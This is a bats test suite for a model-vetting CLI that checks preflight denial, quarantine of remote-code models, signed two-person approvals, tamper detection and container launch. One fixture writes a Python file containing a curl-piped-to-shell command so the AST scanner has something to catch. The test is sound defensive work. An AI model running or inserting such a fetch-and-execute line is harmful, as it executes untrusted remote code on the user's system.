#!/usr/bin/env bats
# pathfinder: the driver users type, on the local Hub. Its output is read
# as a user reads it (not a terminal here: plain ASCII), and what it says
# is checked against the stage artifacts it comes from.

setup_file() {
	load helpers
	hub_build
	hub_start
}

teardown_file() {
	load helpers
	hub_stop
}

setup() {
	load helpers
	export PF_SIGN_KEY="$BATS_TEST_TMPDIR/keys/signing.pem"
	img=""
}

# The test image goes whether the test passed or not.
teardown() {
	[ -z "${img:-}" ] || docker rmi -f "$img" >/dev/null 2>&1 || true
}

commit_of() { cat "$PF_HOME/runs/$1/main.commit"; }
run_of() { echo "$PF_HOME/runs/$1/$(commit_of "$1")"; }

# approvers: alice and bob approve, erin requests; keys registered in the policy.
approvers() {
	local who
	mkdir -p "$BATS_TEST_TMPDIR/k"
	for who in alice bob erin; do
		(umask 077; openssl ecparam -genkey -name prime256v1 -noout -out "$BATS_TEST_TMPDIR/k/$who.pem")
		openssl ec -in "$BATS_TEST_TMPDIR/k/$who.pem" -pubout -out "$BATS_TEST_TMPDIR/k/$who.pub.pem" 2>/dev/null
	done
	pf_policy "$(printf '.approvals = {"rule": "two-person", "approvers": [
	    {"id": "alice", "public_key": "%s", "roles": ["approver"]},
	    {"id": "bob", "public_key": "%s", "roles": ["approver"]},
	    {"id": "erin", "public_key": "%s", "roles": ["requester"]}]}' \
	    "$BATS_TEST_TMPDIR/k/alice.pub.pem" "$BATS_TEST_TMPDIR/k/bob.pub.pem" "$BATS_TEST_TMPDIR/k/erin.pub.pem")"
}

@test "pathfinder: --help lists the design's commands and exits 0" {
	run -0 pathfinder --help
	[[ "${lines[0]}" == "usage: pathfinder enable MODEL"* ]]
	for c in run scan "list --verified" request-approval approve mlbom report verify "audit verify" "allowlist suggest"; do
		[[ "$output" == *"pathfinder $c"* ]]
	done
}

@test "pathfinder: --version, and an unknown command is a usage error" {
	run -0 pathfinder --version
	[ "$output" = "pathfinder 0.1.0" ]
	run -2 --separate-stderr pathfinder frobnicate
	[[ "$stderr" == "pathfinder: unknown command 'frobnicate'"* ]]
}

@test "pathfinder: enable runs the five stages, promotes, signs, writes the ML-BOM and report" {
	run -0 pathfinder enable demo/tiny-gpt
	d=$(run_of demo/tiny-gpt)
	[[ "$output" == *"[1/5] Preflight Validation"* && "$output" == *"[5/5] Environment Setup"* ]]
	[[ "$output" == *"[ok] Model in allowlist: demo/tiny-gpt"* ]]
	[[ "$output" == *"ENABLEMENT COMPLETE"* && "$output" == *"Report:    $d/report.html"* ]]
	# Plain ASCII when stdout is not a UTF-8 terminal.
	! LC_ALL=C grep -q '[^ -~]' <<<"$output"
	v=$(jq -r .gate.verified.path "$d/gate.json")
	[ -f "$v/model.sig" ] && [ -f "$d/mlbom.json" ] && [ -f "$d/report.html" ]
	jq -e '.status == "passed"' "$d/sign.json"
	# The line that says how many files were verified is the manifest's count.
	[[ "$output" == *"Checksums verified: $(jq '.files | length' "$d/fetch.json") files"* ]]
}

@test "pathfinder: a second enable of the same commit redoes nothing" {
	run -0 pathfinder enable demo/tiny-gpt
	d=$(run_of demo/tiny-gpt)
	before=$(stat -c '%n %Y %s' "$d"/*.json "$d/report.html" | sort)
	sleep 1
	run -0 pathfinder enable demo/tiny-gpt
	[ "$(stat -c '%n %Y %s' "$d"/*.json "$d/report.html" | sort)" = "$before" ]
}

@test "pathfinder: a Hub URL is taken as the model id" {
	run -0 pathfinder enable "https://huggingface.co/demo/tiny-gpt/tree/main"
	[ -d "$(run_of demo/tiny-gpt)" ]
}

@test "pathfinder: a model denied at preflight stops there, exit 1, nothing downloaded" {
	run -1 pathfinder enable olduser/pickle-only
	[[ "$output" == *"[XX] Format check: failed"* && "$output" == *"Denied at preflight"* ]]
	[ ! -e "$PF_HOME/quarantine/olduser" ]
}

@test "pathfinder: remote code without approvals: the high-risk box with the next commands, exit 1" {
	run -1 pathfinder enable helpful-ai/custom-model
	[[ "$output" == *"HIGH RISK MODEL DETECTED"* ]]
	[[ "$output" == *"- modeling_custom.py"* && "$output" == *"- configuration_custom.py"* ]]
	[[ "$output" == *"pathfinder request-approval helpful-ai/custom-model"* ]]
	[[ "$output" == *"Aborting. Model quarantined at: $PF_HOME/quarantine/helpful-ai/custom-model/"* ]]
	[ ! -e "$PF_HOME/verified/helpful-ai" ]
}

@test "pathfinder: typed approver names are refused and the message says what to run" {
	run -2 --separate-stderr pathfinder enable helpful-ai/custom-model --accept-remote-code-risk \
	    --approver-1=alice@example.com --approver-2=bob@example.com
	[[ "$stderr" == *"typed approver names are not approvals"*"pathfinder approve helpful-ai/custom-model --approver ID --key KEY.pem"* ]]
}

@test "pathfinder: request-approval, two signed approvals, then enable --accept-remote-code-risk" {
	approvers
	run -1 pathfinder enable helpful-ai/custom-model
	run -2 --separate-stderr pathfinder request-approval helpful-ai/custom-model --requester erin
	[[ "$stderr" == *"--key KEY.pem is required"* ]]
	run -0 pathfinder request-approval helpful-ai/custom-model --requester erin \
	    --key "$BATS_TEST_TMPDIR/k/erin.pem" --reason 'custom attention'
	run -1 pathfinder enable helpful-ai/custom-model --accept-remote-code-risk
	[[ "$output" == *"needs two signed approvals already recorded"* ]]
	run -0 pathfinder approve helpful-ai/custom-model --approver alice --key "$BATS_TEST_TMPDIR/k/alice.pem"
	run -0 pathfinder approve helpful-ai/custom-model --approver bob --key "$BATS_TEST_TMPDIR/k/bob.pem"
	run -0 pathfinder enable helpful-ai/custom-model --accept-remote-code-risk
	[[ "$output" == *"ENABLEMENT COMPLETE"* ]]
	d=$(run_of helpful-ai/custom-model)
	jq -e '.gate.approval.satisfied and (.gate.approval.covered | length) > 0' "$d/gate.json"
}

@test "pathfinder: --json prints the gate's artifact instead of the boxes" {
	run -0 --separate-stderr pathfinder enable demo/tiny-gpt --json
	jq -e '.stage == "gate" and .gate.decision == "passed"' <<<"$output"
}

@test "pathfinder: list --verified, verify, mlbom and report read the store" {
	run -0 pathfinder enable demo/tiny-gpt
	run -0 pathfinder list --verified
	[[ "$output" == "demo/tiny-gpt  $(commit_of demo/tiny-gpt | cut -c1-12)  enforce  signed" ]]
	run -0 --separate-stderr pathfinder verify demo/tiny-gpt
	jq -e '.status == "passed"' <<<"$output"
	run -0 --separate-stderr pathfinder mlbom demo/tiny-gpt
	jq -e '.bomFormat == "CycloneDX"' <<<"$output"
	run -0 --separate-stderr pathfinder report demo/tiny-gpt --format text
	[[ "$output" == *"verdict: passed"* ]]
	run -0 --separate-stderr pathfinder report demo/tiny-gpt --format sarif
	jq -e '.version == "2.1.0"' <<<"$output"
	run -0 pathfinder audit verify
}

@test "pathfinder: verify names a tampered verified file, exit 1" {
	run -0 pathfinder enable demo/tiny-gpt
	v=$(jq -r .gate.verified.path "$(run_of demo/tiny-gpt)/gate.json")
	chmod u+w "$v/config.json"
	echo ' ' >>"$v/config.json"
	run -1 --separate-stderr pathfinder verify demo/tiny-gpt
	jq -e 'any(.findings[]; .file == "config.json")' <<<"$output"
}

@test "pathfinder: allowlist suggest proposes models that passed and are not listed" {
	run -0 pathfinder enable trusted-org/small-bert
	run -0 --separate-stderr pathfinder allowlist suggest
	jq -e '.allowlist == ["trusted-org/small-bert"]' <<<"$output"
}

@test "pathfinder: scan of a local folder runs every scanner on it" {
	mkdir -p "$BATS_TEST_TMPDIR/m"
	printf 'import os\nos.system("curl x | sh")\n' >"$BATS_TEST_TMPDIR/m/modeling_x.py"
	run -1 pathfinder scan "$BATS_TEST_TMPDIR/m"
	[[ "$output" == *"[XX] AST scanner: FAILED"* ]]
}

@test "pathfinder: run starts an enabled model in its container, the signature checked first" {
	img=$(pf_test_image "pathfinder-run-test:$$") || skip "no container engine: 'docker info' failed"
	nofile=$(ulimit -Hn)
	if [ "$nofile" = unlimited ] || [ "$nofile" -gt 65536 ]; then nofile=65536; fi
	# The sanitizer build has no static pf-verify: the normal build's.
	verifier=$PF_BIN/../static/pf-verify
	[ -x "$verifier" ] || verifier=$PF_REPO/build/static/pf-verify
	verifier=$(realpath "$verifier")
	pf_policy ".resources.device_type = \"cpu\" | .launch.image = \"$img\" | .launch.verifier = \"$verifier\"
	    | .launch.command = [\"/bin/sh\", \"-c\", \"cat /models/config.json >/dev/null && echo workload-ran\"]
	    | .launch.max.cpus = 1 | .launch.max.memory = \"512m\" | .launch.max.nofile = $nofile
	    | .launch.timeout_minutes = 2"
	run -0 pathfinder enable demo/tiny-gpt
	run -0 --separate-stderr pathfinder run demo/tiny-gpt
	jq -e '.stage == "launch" and .security.signature_verified == true' <<<"$output"
	d=$(run_of demo/tiny-gpt)
	grep -q workload-ran "$(jq -r '.logs.path // .audit.log_path' "$d/result.json")"
	# A tampered verified file: the container stops before the workload.
	v=$(jq -r .gate.verified.path "$d/gate.json")
	chmod u+w "$v/config.json" && echo ' ' >>"$v/config.json"
	run -1 --separate-stderr pathfinder run demo/tiny-gpt
	jq -e '.security.signature_verified == false' <<<"$output"
}

@test "pathfinder: a Hub that fails mid-fetch is exit 3 with the tool's message, and a rerun resumes" {
	# Only the download reads .gitattributes: preflight passes, fetch fails.
	hub_fault '{"path": "/acme/tiny-llama/resolve/[0-9a-f]+/.gitattributes", "kind": "status", "status": 500}'
	pf_policy '.hub.retries = 0'
	run -3 --separate-stderr pathfinder enable acme/tiny-llama
	[[ "$stderr" == *"pf-fetch: "* ]]
	[[ "$stderr" != *"make"* ]]
	[ ! -e "$(run_of acme/tiny-llama)/fetch.json" ]
	hub_clear_faults
	run -0 pathfinder enable acme/tiny-llama
}
